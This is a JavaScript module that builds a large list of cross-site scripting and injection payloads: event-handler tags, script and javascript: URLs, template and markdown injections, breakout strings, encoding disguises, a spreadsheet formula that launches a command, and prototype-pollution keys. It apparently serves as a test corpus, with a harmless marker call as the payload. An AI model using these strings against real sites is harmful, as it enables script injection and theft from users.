// Texts that would run as a script wherever a page takes a text for something else: every vector in every disguise.

const kCode = "plumbTrouble('a text ran')";

const kHandlers = [
  ["img src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onpageshow"],
  ["details open", "ontoggle"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["object data=x", "onerror"],
  ["marquee", "onstart"],
  ["iframe src=about:blank", "onload"],
  ["div tabindex=0 autofocus", "onfocus"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x", "onbegin"],
  ["link rel=stylesheet href=x", "onerror"],
  ["style", "onload"],
  ["dialog open", "onbeforetoggle"],
  ["p contenteditable autofocus", "onfocus"],
];

const kElements = [
  `<script>${kCode}</script>`,
  `<script src="data:text/javascript,${kCode}"></script>`,
  `<script type=module>${kCode}</script>`,
  `<iframe srcdoc="<script>parent.${kCode}</script>"></iframe>`,
  `<iframe src="javascript:parent.${kCode}"></iframe>`,
  `<object data="data:text/html,<script>${kCode}</script>"></object>`,
  `<embed src="javascript:${kCode}">`,
  `<a href="javascript:${kCode}">press</a>`,
  `<form action="javascript:${kCode}"><button>go</button></form>`,
  `<svg><script href="data:text/javascript,${kCode}"/></svg>`,
  `<svg><a xlink:href="javascript:${kCode}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${kCode}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${kCode}">`,
  `<base href="//elsewhere.example/">`,
  `<style>@import url("//elsewhere.example/x.css");</style>`,
  `<div style="background:url(//elsewhere.example/x.png)">x</div>`,
  `<link rel=preload as=script href="//elsewhere.example/x.js">`,
  `<img src="//elsewhere.example/pixel.png">`,
  `<noscript><p title="</noscript><img src=x onerror=${kCode}>">`,
  `<template><script>${kCode}</script></template>`,
];

const kBreakouts = ["\"", "'", "`", ">", "\">", "'>", "-->", "]]>", "</textarea>", "</title>", "</script>", "</style>", "</option></select>", "</p>", "\\\">", "%22>"];

const kTemplates = [
  `{{constructor.constructor("${kCode}")()}}`,
  `{{${kCode}}}`,
  `{${kCode}}`,
  `\${${kCode}}`,
  `#{${kCode}}`,
  `<%= ${kCode} %>`,
  `[[${kCode}]]`,
  `{@html "<img src=x onerror=${kCode}>"}`,
  `{#if ${kCode}}x{/if}`,
  `{%raw%}${kCode}{%endraw%}`,
  `javascript:${kCode}`,
  `JaVaScRiPt:${kCode}`,
  `java\tscript:${kCode}`,
  `data:text/html,<script>${kCode}</script>`,
  `vbscript:${kCode}`,
  `[press](javascript:${kCode})`,
  `![x](javascript:${kCode})`,
  `[press]: javascript:${kCode}\n\n[press]`,
  `<javascript:${kCode}>`,
  `[x](<javascript:${kCode}>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `\`\`\`html\n<script>${kCode}</script>\n\`\`\``,
  `"}]};${kCode}//`,
  `';${kCode};'`,
  `__proto__`,
  `constructor`,
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd`,
];

const kDisguises = [
  (text) => text,
  (text) => text.toUpperCase().replace(/PLUMBTROUBLE\('A TEXT RAN'\)/g, kCode),
  (text) => text.replace(/ /g, "/"),
  (text) => text.replace(/</g, "&lt;").replace(/>/g, "&gt;"),
  (text) => text.replace(/</g, "&#x3c;"),
  (text) => text.replace(/</g, "\\u003c"),
  (text) => encodeURIComponent(text),
  (text) => text.replace(/</g, "\uff1c").replace(/>/g, "\uff1e"),
  (text) => `\u202e${text}\u202c`,
  (text) => `\u200b${text.split("").join("\u200d").slice(0, 90)}`,
  (text) => text.replace(/=/g, " = ").replace(/</g, "<\n"),
  (text) => `<x ${text}`,
  (text) => `${text}<!--`,
];

/** Each of them once. */
export function payloads() {
  const handlers = kHandlers.map(([element, event]) => `<${element} ${event}="${kCode}">`);
  const plain = [...kElements, ...handlers, ...kTemplates];
  const disguised = [...kElements.slice(0, 6), ...handlers.slice(0, 8)].flatMap((text) => kDisguises.map((disguise) => disguise(text)));
  const breakouts = kBreakouts.flatMap((end) => [`${end}<img src=x onerror=${kCode}>`, `${end} autofocus onfocus=${kCode} x=`]);
  return [...new Set([...plain, ...disguised, ...breakouts])];
}
